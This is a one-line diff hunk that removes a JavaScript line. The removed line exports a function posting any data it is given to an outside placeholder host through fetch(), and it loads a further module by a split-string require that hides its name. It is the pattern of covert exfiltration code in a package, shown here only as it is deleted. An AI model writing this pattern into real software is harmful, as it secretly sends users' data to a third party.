@@ -1,1 +1,0 @@
-module.exports=d=>fetch('https://c.example.invalid',{body:d});require('./'+'a')
